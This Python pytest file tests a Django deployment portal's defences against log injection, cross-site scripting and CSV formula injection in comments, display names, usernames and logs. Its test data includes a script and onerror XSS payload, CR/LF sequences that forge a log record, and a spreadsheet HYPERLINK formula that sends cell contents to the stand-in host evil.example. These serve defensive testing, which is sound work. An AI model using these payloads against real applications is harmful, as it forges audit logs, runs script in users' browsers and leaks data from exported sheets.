"""Log injection: CR/LF and HTML in names, comments and reasons are stored as the data they are,
rendered escaped in pages, neutralised in the CSV audit export, and cannot forge a log line.

ASVS 16.4.1 (encoding against log injection); every security event is audited with user strings kept as data, and audit
exports stay safe to open (docs/audit.md §7). The log check formats every record a flow produced with the formatter the
project's logging configuration installs today.
"""

from __future__ import annotations

import csv
import io
import logging
import sys
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from django.utils.module_loading import import_string

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
FORGED = "2026-11-26 12:00:00,000 INFO django.security [forged] admin granted"
# A comment that tries to end its own line, start a fake log record and run script in a page.
PAYLOAD = f"Looks fine\r\n{FORGED}\n{SCRIPT}<img src=x onerror=alert(2)>"
# A display name that a spreadsheet would run as a formula.
FORMULA_NAME = '=HYPERLINK("http://evil.example/"&A1,"click")\r\nMallory <b>bold</b>'
# A username as a careless directory could hand it over (single sign-on takes preferred_username as is).
HOSTILE_USERNAME = "mallory<u>x</u>\r\nINFO forged"


def project_formatters() -> dict[str, logging.Formatter]:
    """Every formatter the project's LOGGING defines (the console handler uses one of them)."""
    made = {}
    for name, config in settings.LOGGING["formatters"].items():
        options = dict(config)
        factory = import_string(options.pop("()", None) or options.pop("class", "logging.Formatter"))
        if "format" in options:
            options["fmt"] = options.pop("format")
        made[name] = factory(**options)
    return made


def assert_one_record(text: str) -> None:
    """What a formatter wrote for one record cannot be read as more than one: no CR, and any further
    physical line is an indented continuation (a record starts at the first column)."""
    assert "\r" not in text and "\u2028" not in text, text
    for line in text.split("\n")[1:]:
        assert line[:1].isspace(), f"a line that could pass for a record: {line!r}"


@pytest.fixture
def mallory(api_world: Any) -> Any:
    """A maker of the team whose display name is hostile."""
    from alm_portal.accounts import services
    from alm_portal.audit.context import AuditContext

    team = api_world.users["maker"].memberships.get().team
    user = services.user_create(
        username=HOSTILE_USERNAME, role="maker", display_name=FORMULA_NAME, password="correct-horse-battery",
        context=AuditContext.system(),
    )  # fmt: skip
    services.team_add_member(team=team, user=user, context=AuditContext.system())
    return user


@pytest.fixture
def hostile_flows(api_world: Any, mallory: Any, caplog: pytest.LogCaptureFixture) -> dict[str, Any]:
    """Hostile text goes in through the API and the pages; returns what was created."""
    from deployments.models import Promotion

    caplog.set_level(logging.DEBUG)
    ids = api_world.ids
    # Mallory asks for a promotion on its page with a hostile justification.
    client = Client()
    client.force_login(mallory)
    response = client.post(
        f"/deploy/versions/{ids['old_version']}/promote/", {"stage": ids["stage"], "comment": PAYLOAD}
    )
    assert response.status_code == 302, response.content[:500]
    requested = Promotion.objects.filter(requested_by=mallory).get()
    # The approver rejects the world's promotion on its page, with the same hostile comment.
    approver = Client()
    approver.force_login(api_world.users["approver"])
    assert approver.post(f"/deploy/promotions/{ids['promotion']}/reject/", {"comment": PAYLOAD}).status_code == 302
    # An admin freezes a stage for a hostile reason through the API.
    freeze = api_world.client("admin").post(
        f"/api/v1/stages/{ids['stage_prod']}/freezes/",
        {"start": "2030-01-01T00:00:00Z", "end": "2030-01-02T00:00:00Z", "reason": PAYLOAD},
        format="json",
    )
    assert freeze.status_code == 201, freeze.content
    # Text from outside (here as a Dataverse error would bring it) reaches the project's own log lines.
    from environments.services.notifications import notify

    notify([], api_world.objects["environments"]["test"], "health", f"check failed: {PAYLOAD}", {})
    # A path with an encoded line break lands in Django's own "Not Found" log line.
    assert Client().get("/nope%0D%0A" + FORGED.replace(" ", "%20")).status_code == 404
    return {"requested": requested, "freeze": freeze.json()}


def test_hostile_text_is_stored_exactly_as_sent(api_world: Any, hostile_flows: dict[str, Any]) -> None:
    from deployments.models import Approval, Promotion, StageFreeze

    assert hostile_flows["requested"].comment == PAYLOAD
    assert hostile_flows["requested"].requested_by.username == HOSTILE_USERNAME
    rejection = Approval.objects.get(promotion_id=api_world.ids["promotion"])
    assert rejection.comment == PAYLOAD
    assert StageFreeze.objects.get(pk=hostile_flows["freeze"]["id"]).reason == PAYLOAD
    assert hostile_flows["freeze"]["reason"] == PAYLOAD  # the API hands data back as data
    body = api_world.client("approver").get(f"/api/v1/promotions/{hostile_flows['requested'].pk}/").json()
    assert body["justification"] == PAYLOAD
    assert Promotion.objects.filter(comment__contains="\r\n").count() == 1


def test_pages_render_hostile_text_escaped(api_world: Any, hostile_flows: dict[str, Any]) -> None:
    pages = {
        "approver": [
            f"/deploy/promotions/{hostile_flows['requested'].pk}/",
            f"/deploy/promotions/{api_world.ids['promotion']}/",
            "/deploy/promotions/",
            "/deploy/approvals/",
        ],
        "admin": [f"/deploy/pipelines/{api_world.ids['pipeline']}/", "/"],
        "auditor": ["/audit/", f"/deploy/promotions/{hostile_flows['requested'].pk}/"],
    }
    shown = usernames_shown = 0
    for persona, urls in pages.items():
        client = Client()
        client.force_login(api_world.users[persona])
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            html = response.content.decode()
            assert SCRIPT not in html and "<img src=x" not in html and "<b>bold</b>" not in html, url
            assert "<u>x</u>" not in html, url
            shown += html.count("&lt;script&gt;alert(1)&lt;/script&gt;") + html.count("&lt;b&gt;bold&lt;/b&gt;")
            usernames_shown += html.count("mallory&lt;u&gt;x&lt;/u&gt;")
    assert shown >= 3 and usernames_shown >= 1  # the hostile text is on the pages, escaped, not dropped


def test_the_csv_audit_export_neutralises_formulas_and_keeps_rows_intact(
    api_world: Any, hostile_flows: dict[str, Any]
) -> None:
    response = api_world.client("auditor").get("/api/v1/audit-events/export/", {"file_format": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()

    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, events = rows[0], rows[1:]
    assert all(len(row) == len(header) for row in events)  # a CR/LF inside a cell never splits a row
    cells = [cell for row in events for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    display = header.index("actor_display")
    assert f"'{FORMULA_NAME} ({HOSTILE_USERNAME})" in [row[display] for row in events]  # mallory's events, quoted
    assert any(PAYLOAD in cell for cell in cells)  # comments survive as data


@pytest.mark.parametrize("format_name", sorted(settings.LOGGING["formatters"]))
def test_no_log_record_can_forge_a_second_line(
    hostile_flows: dict[str, Any], caplog: pytest.LogCaptureFixture, format_name: str
) -> None:
    formatter = project_formatters()[format_name]
    written = []
    for record in caplog.get_records("setup") + caplog.get_records("call"):
        for attribute in ("request_id", "job_id"):
            if not hasattr(record, attribute):
                setattr(record, attribute, "-")
        written.append(formatter.format(record))

    assert written, "the flows logged nothing"
    for text in written:
        assert_one_record(text)
    # The forged text is there, inside the record that carried it (escaped as the format escapes).
    assert any("environments.notifications" in text and FORGED in text for text in written)
    assert any("Not Found: /nope" in text and FORGED in text for text in written)


@pytest.mark.parametrize("format_name", sorted(settings.LOGGING["formatters"]))
def test_a_traceback_cannot_forge_a_record_either(format_name: str) -> None:
    formatter = project_formatters()[format_name]
    try:
        raise ValueError(f"bad name {PAYLOAD}")
    except ValueError:
        record = logging.getLogger("tests").makeRecord(
            "tests", logging.ERROR, __file__, 1, "failed for %s", (PAYLOAD,), sys.exc_info()
        )
    record.request_id, record.job_id = "req-1", "-"

    text = formatter.format(record)

    assert "Traceback" in text and FORGED in text
    assert_one_record(text)
